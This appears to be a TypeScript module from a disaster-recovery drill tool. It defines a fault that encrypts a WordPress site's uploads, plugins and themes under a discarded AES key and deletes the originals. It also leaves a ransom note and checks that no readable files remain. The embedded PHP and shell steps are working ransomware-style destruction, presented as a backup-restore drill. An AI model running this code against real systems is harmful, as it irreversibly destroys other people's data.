import { randomBytes } from 'node:crypto';
import { DrillError } from '../model/errors.ts';
import { defineFault } from '../model/kind.ts';
import { inWebRoot } from './web-root.ts';

const defaults = ['wp-content/uploads', 'wp-content/plugins', 'wp-content/themes'];
const note = 'HOW_TO_GET_YOUR_FILES_BACK.txt';

/**
 * Every file is written anew under AES-256 and the old one removed; prints how many. The key comes on standard input and
 * is kept by nobody, so what is not in a backup is lost.
 */
const code = `
$key = stream_get_contents( STDIN );
$done = 0;
foreach ( array_slice( $argv, 1 ) as $path ) {
	if ( ! is_dir( $path ) ) { continue; }
	$files = iterator_to_array( new RecursiveIteratorIterator( new RecursiveDirectoryIterator( $path, FilesystemIterator::SKIP_DOTS ) ), false );
	foreach ( $files as $file ) {
		if ( ! $file->isFile() || $file->isLink() ) { continue; }
		$iv = random_bytes( 16 );
		$sealed = openssl_encrypt( file_get_contents( $file->getPathname() ), 'aes-256-ctr', $key, OPENSSL_RAW_DATA, $iv );
		if ( false === $sealed || false === file_put_contents( $file->getPathname() . '.locked', $iv . $sealed ) || ! unlink( $file->getPathname() ) ) { exit( 4 ); }
		++$done;
	}
}
echo $done;`;
const injectScript = `printf '%s\\n' 'Your files are encrypted. (A drill: nobody has the key.)' > "$NOTE" && php -r "$CODE" -- "$@"`;
/** A shop that goes on writes new files, its log above all: what is newer than the note was not there. */
const observeScript = `if [ ! -e "$NOTE" ]; then echo none; exit; fi; find "$@" -type f ! -name '*.locked' ! -newer "$NOTE" 2>/dev/null | wc -l`;

/** Encrypts files of the web root under a key that nobody keeps, and leaves a ransom note. Cannot be undone; restore them. */
export const encryptFiles = defineFault({
  kind: 'encrypt-files',
  title: 'Encrypt files of the web root',
  controls: ['164.308(a)(5)(ii)(B)', '164.308(a)(7)(ii)(B)'],
  params: {
    type: 'object',
    additionalProperties: false,
    properties: { paths: { type: 'array', minItems: 1, uniqueItems: true, items: { type: 'string', pattern: '^[A-Za-z0-9_][A-Za-z0-9_./-]{0,200}$' } } },
  },
  example: { paths: ['wp-content/uploads'] },
  async inject({ paths = defaults }, context) {
    if (paths.some((path) => path.split('/').includes('..'))) throw new DrillError('INVALID_FLAG', 'encrypt-files: a path leads out of the web root.');
    const files = Number(await inWebRoot(context, injectScript, paths, { stdin: randomBytes(32), env: { CODE: code, NOTE: note } }));
    if (files === 0) throw new DrillError('COMMAND_FAILED', 'encrypt-files: there was no file to encrypt.');
    return { summary: `${files} files encrypted, a ransom note left`, data: { paths: [...paths], files, note } };
  },
  async observe({ paths = defaults }, context) {
    const left = await inWebRoot(context, observeScript, paths, { env: { NOTE: note } });
    return {
      observed: left === '0',
      text: left === '0' ? 'no file of these paths can be read any more, and the note is there' : 'not every file is encrypted',
    };
  },
});
